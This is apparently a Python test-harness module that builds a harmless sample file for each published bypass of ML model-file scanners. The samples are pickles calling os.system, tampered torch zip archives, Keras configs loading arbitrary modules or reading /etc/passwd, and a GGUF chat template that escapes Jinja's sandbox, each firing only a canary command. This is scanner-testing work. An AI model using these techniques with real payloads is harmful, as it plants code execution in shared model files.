"""Published ways past other scanners, by their advisories: a harmless file for each.

An advisory names what a scanner did not see. Here the same technique calls something that would
only touch a canary file or ask a documentation address, and nothing is ever loaded.
"""

import gzip
import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from harness import make_archives as zips
from harness import make_hdf5 as keras
from harness.make_pickles import call, data, glob, stream, text
from harness.make_sevenzip import LZMA2, sevenzip

CANARY = "touch pratique-canary"
ADDRESS = "192.0.2.1"
EVIL = stream(call("os", "system", text(CANARY)))
QUIET = stream(b"}")


@dataclass(frozen=True, slots=True)
class Bypass:
    """One advisory: its ids, whom it is about, what it says, and a file that does it.

    `name` is the file's name as the advisory has it.
    """

    ids: str
    about: str
    technique: str
    name: str
    make: Callable[[], bytes]


def gadget(module: str, name: str, *words: str) -> Callable[[], bytes]:
    """Return what makes a pickle that calls one name with texts."""
    return lambda: stream(call(module, name, *(text(word) for word in words)))


def torch_zip(**members: bytes) -> bytes:
    """Return a torch archive with further members, `data.pkl` of which may be hostile."""
    plain = {"data.pkl": QUIET, "version": b"3\n", "byteorder": b"little"}
    return zips.zipped({f"archive/{k}": v for k, v in (plain | members).items()})


def _evil_zip() -> bytes:
    return torch_zip(**{"data.pkl": EVIL})


def _renamed_in_local_header() -> bytes:
    body = _evil_zip()
    return zips.patched(body, body.index(b"archive/data.pkl"), b"archive/datap.kl")


def _flag_bits() -> bytes:
    body = _evil_zip()
    for at, offset in ((zips.locals_of(body)[0], 6), (zips.centrals(body)[0], 8)):
        body = zips.patched(body, at + offset, b"\1\0")
    return body


def _bad_checksum() -> bytes:
    body = _evil_zip()
    for at, offset in ((zips.locals_of(body)[0], 14), (zips.centrals(body)[0], 16)):
        body = zips.patched(body, at + offset, b"\xde\xad\xbe\xef")
    return body


def _dotted() -> bytes:
    return stream(text("logging"), text("os.system"), b"\x93(", text(CANARY), b"tR")


def _resolved() -> bytes:
    return stream(call("pkgutil", "resolve_name", text("os:system")), b"(", text(CANARY), b"tR")


def _built() -> bytes:
    state = b"}" + text("__builtins__") + glob("builtins", "dict") + b"s"
    return stream(glob("numpy", "size"), state, b"b")


def _broken_after() -> bytes:
    return EVIL[:-1] + b"\xff broken"


def _popped() -> bytes:
    return stream(call("os", "system", text(CANARY)), b"0", b"}")


def _memo() -> bytes:
    told = text("os") + b"\x94" + text("system") + b"\x94" + b"00h\0h\1\x93(" + text(CANARY) + b"tR"
    return stream(told)


def _obfuscated_eval() -> bytes:
    inner = call("builtins", "getattr", glob("builtins", "__import__"), text("__call__"))
    return stream(inner, b"(", text("os"), b"tR")


def _magic_number() -> bytes:
    """Return a legacy checkpoint whose magic number is the result of a call."""
    magic = stream(call("builtins", "eval", text(f"__import__('os').system('{CANARY}')")))
    return magic + stream(b"M\xe9\x03", protocol=2) + stream(b"}", protocol=2) * 2


def _shortened() -> bytes:
    safe = glob("collections", "OrderedDict") + b"0"
    return stream(safe, call("os", "system", text(CANARY)))


def _keras(*layers: dict[str, object]) -> bytes:
    config = keras.sequential(*layers).encode()
    return zips.zipped({"config.json": config, "metadata.json": b'{"keras_version": "3.8.0"}'})


def _fetching() -> bytes:
    config = {"fname": "x", "origin": f"http://{ADDRESS}/x"}
    return _keras(keras.layer("keras.src.utils", "get_file", config))


def _arbitrary_module() -> bytes:
    return _keras(keras.layer("os", "system", {"command": CANARY}))


def _lambda() -> bytes:
    return _keras(keras.new_lambda(keras.code("os", "system")))


def _old_lambda() -> bytes:
    return keras.keras(keras.sequential(keras.old_lambda(keras.code("os", "system"))))


def _torch_module() -> bytes:
    told = {"module": {"class_name": "torch.nn.Module", "config": {"module": data(EVIL).hex()}}}
    return _keras(keras.layer("keras.layers", "TorchModuleWrapper", told))


def _vocabulary() -> bytes:
    told = {"vocabulary": "/etc/passwd", "name": "v"}
    return _keras(keras.layer("keras.layers", "StringLookup", told))


def _unsafe_switch() -> bytes:
    return _keras(keras.layer("keras.config", "enable_unsafe_deserialization"))


def _template() -> bytes:
    """Return a GGUF whose chat template climbs out of Jinja's sandbox."""
    climb = "{{ cycler.__init__.__globals__.os.popen('" + CANARY + "').read() }}"
    key, value = b"tokenizer.chat_template", climb.encode()
    row = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(value)) + value
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + row


def _asyncio() -> bytes:
    name = ("asyncio.unix_events", "_UnixSubprocessTransport._start")
    return stream(text(name[0]), text(name[1]), b"\x93(", text(CANARY), b"tR")


def _joblib() -> bytes:
    return gzip.compress(EVIL, mtime=0)


def _object_array() -> bytes:
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + "\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(head)) + head.encode() + EVIL


def _inst() -> bytes:
    return b"(S'" + CANARY.encode() + b"'\nios\nsystem\n."


def _nested() -> bytes:
    return stream(call("pickle", "loads", data(EVIL)))


def _duplicate() -> bytes:
    return zips.zipped([("archive/data.pkl", EVIL), ("archive/data.pkl", QUIET)])


def _prepended() -> bytes:
    return b"MZ" + bytes(510) + _evil_zip()


def _npz() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(zipfile.ZipInfo("a.npy", zips.DATED), _object_array())
    return out.getvalue()


_LISTS = (
    ("CVE-2025-67748", "fickling", "pty", "spawn", "/bin/true"),
    ("CVE-2026-22608", "fickling", "pydoc", "locate", "os.system"),
    ("CVE-2026-22607", "fickling", "cProfile", "run", "1"),
    ("CVE-2026-22609", "fickling", "code", "InteractiveInterpreter", "x"),
    ("CVE-2026-22606", "fickling", "runpy", "run_path", "x.py"),
    ("CVE-2026-14534", "fickling", "_posixsubprocess", "fork_exec", "x"),
    ("CVE-2026-14534", "fickling", "site", "execsitecustomize", "x"),
    ("CVE-2026-14534", "fickling", "atexit", "register", "x"),
    ("CVE-2025-1716", "picklescan", "pip", "main", "install"),
    ("CVE-2025-46417", "picklescan", "ssl", "get_server_certificate", ADDRESS),
    ("CVE-2025-71354", "picklescan", "idlelib.debugobj", "ObjectTreeItem", "x"),
    ("CVE-2025-71323", "picklescan", "ctypes", "CDLL", "libc.so.6"),
    ("CVE-2025-71339", "picklescan", "numpy.f2py.crackfortran", "_eval_length", "1"),
    ("CVE-2025-71358", "picklescan", "idlelib.autocomplete", "AutoComplete.get_entity", "x"),
    ("CVE-2025-71320", "picklescan", "asyncio.unix_events", "_UnixSubprocessTransport._start", "x"),
    ("CVE-2025-71361", "picklescan", "idlelib.calltip", "Calltip", "x"),
    ("CVE-2026-53872", "picklescan", "io", "FileIO", "x"),
    ("CVE-2025-71322", "picklescan", "pty", "spawn", "/bin/true"),
    ("CVE-2025-71321", "picklescan", "distutils.file_util", "write_file", "x"),
    ("CVE-2025-71344", "picklescan", "ensurepip", "_run_pip", "x"),
    ("CVE-2026-56304", "picklescan", "logging", "FileHandler", "x"),
    ("CVE-2025-71348", "picklescan", "torch.utils._config_module", "load_config", "x"),
    ("CVE-2025-71357", "picklescan", "idlelib.pyshell", "ModifiedInterpreter.runcommand", "x"),
    ("CVE-2025-71378", "picklescan", "cProfile", "runctx", "1"),
    ("CVE-2026-53873", "picklescan", "profile", "run", "1"),
    ("CVE-2026-3490", "picklescan", "pkgutil", "resolve_name", "os:system"),
)
"""Advisories about a name that a block list forgot."""

_OTHERS = (
    ("CVE-2025-67747", "fickling", "marshal and types.FunctionType", "model.pkl",
     lambda: stream(call("marshal", "loads", data(b"N")))),
    ("CVE-2026-22612", "fickling", "builtins are not looked at", "model.pkl",
     gadget("builtins", "__import__", "os")),
    ("CVE-2026-14535", "fickling", "a harmless import first", "model.pkl", _shortened),
    ("GHSA-mxhj-88fx-4pcv", "fickling", "the result of the call is dropped", "model.pkl", _popped),
    ("GHSA-5j3x-jp52-966f", "fickling", "a dotted name through a module", "model.pkl", _dotted),
    ("CVE-2025-10155", "picklescan", "a pickle under another extension", "model.bin", lambda: EVIL),
    ("CVE-2025-1889", "picklescan", "a pickle of no pickle's extension in the archive", "model.pt",
     lambda: torch_zip(**{"config.p": EVIL})),
    ("CVE-2025-10156", "picklescan", "a wrong checksum in the archive", "model.pt", _bad_checksum),
    ("CVE-2025-10157", "picklescan", "a submodule of a forbidden module", "model.pkl", _asyncio),
    ("CVE-2025-1944", "picklescan", "another name in the local header", "model.pt",
     _renamed_in_local_header),
    ("CVE-2025-1945", "picklescan", "flag bits of encryption", "model.pt", _flag_bits),
    ("CVE-2025-71325", "picklescan", "the stream breaks after the call", "model.pkl",
     _broken_after),
    ("CVE-2026-53874", "picklescan", "eval by way of another builtin", "model.pkl",
     _obfuscated_eval),
    ("CVE-2026-53875", "picklescan", "the magic number of a checkpoint is a call", "model.pt",
     _magic_number),
    ("modelscan#330", "modelscan", "BUILD on a function of a listed library", "model.pkl", _built),
    ("modelscan#338", "modelscan", "names by STACK_GLOBAL from the memo", "model.pkl", _memo),
    ("picklescan#66", "picklescan", "a string becomes a callable", "model.pkl", _resolved),
    ("nullifAI", "picklescan", "the checkpoint is packed by 7z", "pytorch_model.bin",
     lambda: sevenzip({"archive/data.pkl": EVIL}, method=LZMA2, pack_list=True)),
    ("arXiv:2508.19774", "several", "INST in protocol 0", "model.pkl", _inst),
    ("arXiv:2508.19774", "several", "a pickle in a pickle", "model.pkl", _nested),
    ("arXiv:2508.19774", "several", "a packed pickle of joblib", "model.joblib", _joblib),
    ("arXiv:2508.19774", "several", "an array of objects", "model.npy", _object_array),
    ("arXiv:2508.19774", "several", "an array of objects in npz", "model.npz", _npz),
    ("arXiv:2508.19774", "several", "two members of one name", "model.pt", _duplicate),
    ("arXiv:2508.19774", "several", "bytes before the archive", "model.pt", _prepended),
    ("CVE-2025-1550", "Keras", "any module in config.json", "model.keras", _arbitrary_module),
    ("CVE-2025-8747", "Keras", "get_file as a layer", "model.keras", _fetching),
    ("CVE-2025-9905", "Keras", "Lambda in HDF5, safe_mode ignored", "model.h5", _old_lambda),
    ("CVE-2025-9906", "Keras", "the configuration switches safe_mode off", "model.keras",
     _unsafe_switch),
    ("CVE-2024-3660", "Keras", "Lambda in config.json", "model.keras", _lambda),
    ("CVE-2025-49655", "Keras", "TorchModuleWrapper unpickles", "model.keras", _torch_module),
    ("CVE-2025-12058", "Keras", "StringLookup reads a file", "model.keras", _vocabulary),
    ("CVE-2024-34359", "llama-cpp-python", "a chat template leaves the sandbox", "model.gguf",
     _template),
)  # fmt: skip


def bypasses() -> Iterator[Bypass]:
    """Yield every published bypass that is known here."""
    for ids, about, module, name, word in _LISTS:
        says = f"no entry for `{module}.{name}`"
        yield Bypass(ids, about, says, "model.pkl", gadget(module, name, word))
    for row in _OTHERS:
        yield Bypass(*row)
